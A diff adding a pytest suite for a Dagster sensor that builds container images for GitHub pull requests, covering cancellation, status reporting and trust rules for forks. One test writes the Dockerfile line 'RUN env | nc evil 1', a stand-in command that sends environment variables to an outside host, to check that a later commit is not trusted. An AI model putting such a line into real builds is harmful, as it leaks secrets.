@@ -1,0 +1,377 @@
+"""The sensor of pull requests, tick by tick, on a bare remote and with GitHub over HTTP; runs are not executed."""
+
+from __future__ import annotations
+
+import os
+import time
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+import dagster as dg
+import pytest
+
+from aml_images_dagster.assets.request import COMMIT_TAG, PULL_REQUEST_TAG
+from aml_images_dagster.automation import pull_request_tick
+from aml_images_dagster.automation.pinned_catalogue import PinnedCatalogue
+from aml_images_dagster.definitions import definitions
+from aml_images_dagster.settings import load_settings
+from tests.emulators.github import REPOSITORY, TOKEN, GitHub, OpenPullRequest
+from tests.image_repository import ImageRepository
+from tests.pull_requests.remote_repository import RemoteRepository, edit_docs, edit_hello, edit_shell
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from aml_images_dagster.settings import Settings
+
+KEY = ["images", "because"]
+
+
+@dataclass
+class Ticks:
+    """A sensor whose ticks the test makes.
+
+    Attributes:
+        remote: Where pull requests are.
+        github: What they are told to.
+        instance: Where its runs are.
+    """
+
+    remote: RemoteRepository
+    github: GitHub
+    instance: dg.DagsterInstance
+    given: dict[str, object]
+    cursor: str | None = None
+    said: str = ""
+    reloads: int = 0
+    _definitions: dg.Definitions | None = None
+    runs: list[dg.DagsterRun] = field(default_factory=list)
+
+    @property
+    def settings(self) -> Settings:
+        return load_settings(
+            repo=self.remote.factory.root, pull_requests=self.given, production_registry="127.0.0.1:5001"
+        )
+
+    def load(self) -> None:
+        """Load the code location, again."""
+        settings = self.settings
+        self._definitions = definitions(settings, PinnedCatalogue.now(settings))
+
+    def tick(self) -> list[dg.RunRequest]:
+        """One tick; what it asks for becomes runs that wait."""
+        if self._definitions is None:
+            self.load()
+        assert self._definitions is not None
+        sensor = next(s for s in self._definitions.sensors or () if s.name == "pull_requests")
+        repository = self._definitions.get_repository_def()
+        with dg.build_sensor_context(self.instance, cursor=self.cursor, repository_def=repository) as context:
+            result = sensor(context)
+        if isinstance(result, dg.SkipReason):
+            self.said = result.skip_message or ""
+            return []
+        assert isinstance(result, dg.SensorResult)
+        self.cursor = result.cursor
+        self.said = result.skip_reason.skip_message or "" if result.skip_reason else ""
+        for request in result.run_requests or ():
+            job = self._definitions.resolve_job_def("build")
+            run = self.instance.create_run_for_job(
+                job.get_subset(asset_selection=set(request.asset_selection or ())),
+                run_config=request.run_config,
+                tags={**request.tags, "dagster/run_key": request.run_key or ""},
+                status=dg.DagsterRunStatus.NOT_STARTED,
+                asset_selection=frozenset(request.asset_selection or ()),
+            )
+            self.runs.append(run)
+        return list(result.run_requests or ())
+
+    def end(self, run: dg.DagsterRun, how: str) -> None:
+        report = {"SUCCESS": "report_run_canceled", "CANCELED": "report_run_canceled", "FAILURE": "report_run_failed"}[
+            how
+        ]
+        getattr(self.instance, report)(run)
+
+    def open(self, number: int, change, **host: object) -> str:
+        self.github.pull_requests.setdefault(number, OpenPullRequest(**host))
+        return self.remote.push(number, change)
+
+    def close(self, number: int) -> None:
+        del self.github.pull_requests[number]  # its ref stays, as at GitHub
+
+    def images(self, request: dg.RunRequest) -> list[str]:
+        return sorted({f"{k.path[0]}/{k.path[1].rpartition('.')[0]}" for k in request.asset_selection or ()})
+
+
+class _Coordinator:
+    """Cancels at once."""
+
+    def __init__(self, instance: dg.DagsterInstance) -> None:
+        self._instance = instance
+
+    def cancel_run(self, run_id: str) -> bool:
+        run = self._instance.get_run_by_id(run_id)
+        assert run is not None
+        self._instance.report_run_canceled(run)
+        return True
+
+
+@pytest.fixture
+def ticks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Ticks]:
+    for name in os.environ:
+        if name.startswith(("AML_IMAGES_", "DAGSTER_")):
+            monkeypatch.delenv(name)
+    remote = RemoteRepository.create(tmp_path, ImageRepository.create(tmp_path / "repository"))
+    with GitHub() as github, dg.DagsterInstance.ephemeral() as instance:
+        monkeypatch.setattr(type(instance), "run_coordinator", property(_Coordinator))
+        given = {"host": "github", "api_url": github.url, "repository": REPOSITORY, "token": TOKEN}
+        made = Ticks(remote, github, instance, given)
+        monkeypatch.setattr(pull_request_tick, "with_needed_parents", None, raising=False)
+
+        def reload(*_: object) -> None:
+            made.reloads += 1
+            made.load()
+
+        monkeypatch.setattr(pull_request_tick, "reload_code_location", reload)
+        monkeypatch.setattr(
+            "aml_images_dagster.pull_requests.changes.with_needed_parents", lambda selection, *_: dict(selection)
+        )
+        yield made
+
+
+def test_an_edit_starts_one_build_of_the_image_and_its_descendants(ticks: Ticks) -> None:
+    head = ticks.open(7, edit_shell)
+    (request,) = ticks.tick()
+    assert ticks.images(request) == ["apps/hello", "tools/shell"]
+    assert {key.path[1].rpartition(".")[2] for key in request.asset_selection or ()} == {"staged", "tested"}
+    assert (request.tags[PULL_REQUEST_TAG], request.tags[COMMIT_TAG]) == ("7", head)
+    config = request.run_config["resources"]["build_options"]["config"]
+    assert config["source_commit"] == head
+    assert config["reasons"]["apps/hello"] == ["FROM tools/shell"]
+    assert ticks.github.outcomes(head) == ["pending"]
+    assert ticks.tick() == []
+    assert "1 with a build" in ticks.said
+    (comment,) = ticks.github.comments[7]
+    assert "FROM tools/shell" in comment["body"]
+
+
+def test_documentation_starts_nothing_and_says_so(ticks: Ticks) -> None:
+    head = ticks.open(7, edit_docs)
+    assert ticks.tick() == []
+    assert "#7 nothing: no image is changed" in ticks.said
+    (status,) = ticks.github.statuses[head]
+    assert (status["state"], status["description"]) == ("success", "nothing to build: no image is changed")
+    assert ticks.tick() == []
+    assert len(ticks.github.statuses[head]) == 1
+    assert ticks.runs == []
+
+
+def test_a_push_cancels_what_is_superseded(ticks: Ticks) -> None:
+    first = ticks.open(7, edit_hello)
+    ticks.tick()
+    second = ticks.open(7, lambda r: edit_hello(r, "RUN echo other\n"))
+    (request,) = ticks.tick()
+    assert request.tags[COMMIT_TAG] == second
+    before, now = (ticks.instance.get_run_by_id(run.run_id) for run in ticks.runs)
+    assert (before.status, now.status) == (dg.DagsterRunStatus.CANCELED, dg.DagsterRunStatus.NOT_STARTED)
+    assert ticks.github.outcomes(first) == ["pending", "error"]
+    assert ticks.github.statuses[first][-1]["description"] == f"superseded by {second[:8]}"
+    assert ticks.github.outcomes(second) == ["pending"]
+    assert len(ticks.github.comments[7]) == 1
+
+
+def test_a_closed_one_is_forgotten(ticks: Ticks) -> None:
+    head = ticks.open(7, edit_hello)
+    ticks.tick()
+    ticks.close(7)
+    ticks.remote.push(8, edit_docs)  # its refs change
+    ticks.tick()
+    assert ticks.instance.get_run_by_id(ticks.runs[0].run_id).status is dg.DagsterRunStatus.NOT_STARTED
+    ticks.tick()
+    assert ticks.instance.get_run_by_id(ticks.runs[0].run_id).status is dg.DagsterRunStatus.CANCELED
+    assert ticks.github.outcomes(head) == ["pending", "error"]
+    assert ticks.remote.factory.git("for-each-ref", "refs/aml-images/pull") == ""
+    assert '"7"' not in (ticks.cursor or "")
+
+
+def test_refs_that_are_gone_for_a_moment_end_nothing(ticks: Ticks) -> None:
+    ticks.open(7, edit_hello)
+    ticks.tick()
+    found = ticks.github.pull_requests.pop(7)
+    ticks.remote.push(8, edit_docs)
+    ticks.tick()
+    ticks.github.pull_requests[7] = found
+    ticks.remote.push(8, edit_docs)
+    assert ticks.tick() == []
+    assert ticks.instance.get_run_by_id(ticks.runs[0].run_id).status is dg.DagsterRunStatus.NOT_STARTED
+
+
+def test_an_image_that_a_pull_request_adds(ticks: Ticks) -> None:
+    def change(repository: ImageRepository) -> None:
+        repository.write_image("apps/new", "FROM registry.example/shell\n")
+        edit_shell(repository)
+
+    head = ticks.open(7, change)
+    assert ticks.tick() == []
+    assert ticks.reloads == 1
+    assert "Dagster has yet to learn of apps/new" in ticks.said
+    (request,) = ticks.tick()
+    assert ticks.images(request) == ["apps/hello", "apps/new", "tools/shell"]
+    assert ticks.github.outcomes(head) == ["pending"]
+    graph = ticks._definitions.resolve_asset_graph()
+    key = dg.AssetKey(["apps", "new.staged"])
+    assert graph.get(key).parent_keys == {dg.AssetKey(["tools", "shell.staged"])}
+    ticks.close(7)
+    ticks.remote.push(8, edit_docs)
+    ticks.tick()
+    ticks.tick()
+    ticks.load()
+    assert not ticks._definitions.resolve_asset_graph().has(key)
+
+
+def test_a_from_line_that_a_pull_request_adds_orders_its_build(ticks: Ticks) -> None:
+    def change(repository: ImageRepository) -> None:
+        (repository.folder("apps/other") / "Dockerfile").write_text("FROM registry.example/hello\n")
+        edit_hello(repository)
+
+    ticks.open(7, change)
+    assert ticks.tick() == []
+    assert ticks.tick()
+    graph = ticks._definitions.resolve_asset_graph()
+    assert dg.AssetKey(["apps", "hello.staged"]) in graph.get(dg.AssetKey(["apps", "other.staged"])).parent_keys
+
+
+def test_images_that_dagster_never_takes_up(ticks: Ticks, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(pull_request_tick, "reload_code_location", lambda *_: None)
+    head = ticks.open(7, lambda r: r.write_image("apps/new", "FROM busybox:1\n"))
+    now = time.time()
+    for minutes in range(0, 40, 5):
+        monkeypatch.setattr(pull_request_tick.time, "time", lambda minutes=minutes: now + minutes * 60)
+        assert ticks.tick() == []
+    assert ticks.github.outcomes(head) == ["pending", "failure"]
+    assert "does not take up its images" in ticks.github.comments[7][0]["body"]
+
+
+@pytest.mark.parametrize(
+    ("allow", "host", "built"),
+    [
+        ("same-repository", {}, True),
+        ("same-repository", {"from_fork": True}, False),
+        ("author:alice", {"from_fork": True}, True),
+        ("author:bob", {"from_fork": True}, False),
+        ("label:build", {"from_fork": True}, False),
+        ("everyone", {"from_fork": True}, True),
+    ],
+)
+def test_who_may_trigger(ticks: Ticks, allow: str, host: dict[str, object], built: bool) -> None:
+    ticks.given["allow"] = allow
+    head = ticks.open(7, edit_hello, **host)
+    assert bool(ticks.tick()) is built
+    if not built:
+        assert "#7 refused: it comes from outside" in ticks.said
+        assert ticks.github.statuses[head][-1]["description"].startswith("not built: it comes from outside")
+        assert ticks.remote.factory.git("for-each-ref", "refs/aml-images/pull") == ""  # not even fetched
+
+
+def test_a_label_counts_for_the_head_that_was_looked_at(ticks: Ticks, monkeypatch: pytest.MonkeyPatch) -> None:
+    ticks.given["allow"] = "label:build"
+    now = time.time()
+
+    def later(minutes: int) -> list[dg.RunRequest]:
+        monkeypatch.setattr(pull_request_tick.time, "time", lambda: now + minutes * 60)
+        return ticks.tick()
+
+    first = ticks.open(7, edit_hello, from_fork=True)
+    assert later(0) == []
+    ticks.github.pull_requests[7].labels.append("build")
+    (request,) = later(5)
+    assert request.tags[COMMIT_TAG] == first
+    second = ticks.open(7, lambda r: edit_hello(r, "RUN env | nc evil 1\n"))
+    assert later(6) == []
+    assert ticks.github.pull_requests[7].labels == []
+    assert "was there before this commit" in ticks.github.statuses[second][-1]["description"]
+    assert later(20) == []
+    ticks.github.pull_requests[7].labels.append("build")
+    (request,) = later(40)
+    assert request.tags[COMMIT_TAG] == second
+
+
+def test_without_a_token_nobody_is_trusted_and_nothing_is_told(ticks: Ticks) -> None:
+    ticks.given = {"host": "github", "api_url": ticks.github.url, "repository": REPOSITORY}
+    ticks.open(7, edit_hello)
+    assert ticks.tick() == []
+    assert "nobody can tell who has made it" in ticks.said
+    ticks.given["allow"] = "everyone"
+    ticks.cursor = None
+    ticks.load()
+    assert len(ticks.tick()) == 1
+    assert ticks.github.received == []
+
+
+def test_a_host_that_is_out_of_order_is_told_later(ticks: Ticks, monkeypatch: pytest.MonkeyPatch) -> None:
+    head = ticks.open(7, edit_hello)
+    ticks.given["allow"] = "everyone"
+    assert len(ticks.tick()) == 1
+    ticks.github.fault = 503
+    now = time.time()
+    ticks.instance.report_run_failed(ticks.runs[0])
+    assert ticks.tick() == []
+    assert "#7 could not be told, and will be again" in ticks.said
+    ticks.github.fault = 0
+    monkeypatch.setattr(pull_request_tick.time, "time", lambda: now + 40)
+    ticks.tick()
+    assert ticks.github.outcomes(head) == ["pending", "failure"]
+
+
+def test_a_host_that_cannot_be_asked_starts_nothing(ticks: Ticks) -> None:
+    ticks.open(7, edit_hello)
+    ticks.github.fault = 500
+    assert ticks.tick() == []
+    assert "GitHub answers 500" in ticks.said
+
+
+def test_a_remote_that_cannot_be_reached_ends_nothing(ticks: Ticks) -> None:
+    ticks.open(7, edit_hello)
+    ticks.tick()
+    cursor = ticks.cursor
+    ticks.remote.bare.rename(ticks.remote.bare.with_name("away"))
+    assert ticks.tick() == []
+    assert "no such remote" in ticks.said
+    assert ticks.cursor == cursor
+    assert ticks.instance.get_run_by_id(ticks.runs[0].run_id).status is dg.DagsterRunStatus.NOT_STARTED
+
+
+def test_a_lost_cursor_starts_nothing_twice(ticks: Ticks) -> None:
+    ticks.open(7, edit_hello)
+    ticks.tick()
+    ticks.cursor = None
+    assert ticks.tick() == []
+    assert len(ticks.github.comments[7]) == 1
+
+
+def test_what_cannot_be_built_is_told_and_not_started(ticks: Ticks) -> None:
+    head = ticks.open(7, lambda r: r.write(r.folder("apps/other") / "tests.json", "{"))
+    assert ticks.tick() == []
+    assert ticks.github.outcomes(head) == ["failure"]
+    assert "tests.json:1" in ticks.github.comments[7][0]["body"]
+
+
+def test_a_defect_of_ours_stops_no_other(ticks: Ticks, monkeypatch: pytest.MonkeyPatch) -> None:
+    ticks.open(7, edit_hello)
+    other = ticks.open(8, edit_shell)
+    assess = pull_request_tick.Assessor.assess
+
+    def broken(self, number, *rest):
+        if number == 7:
+            raise RecursionError
+        return assess(self, number, *rest)
+
+    monkeypatch.setattr(pull_request_tick.Assessor, "assess", broken)
+    assert [request.tags[COMMIT_TAG] for request in ticks.tick()] == [other]
+
+
+def test_default_status(ticks: Ticks) -> None:
+    for profile, status in (("off", dg.DefaultSensorStatus.STOPPED), ("on", dg.DefaultSensorStatus.RUNNING)):
+        settings = load_settings(repo=ticks.remote.factory.root, automation=profile)
+        sensor = next(s for s in definitions(settings).sensors or () if s.name == "pull_requests")
+        assert sensor.default_status is status
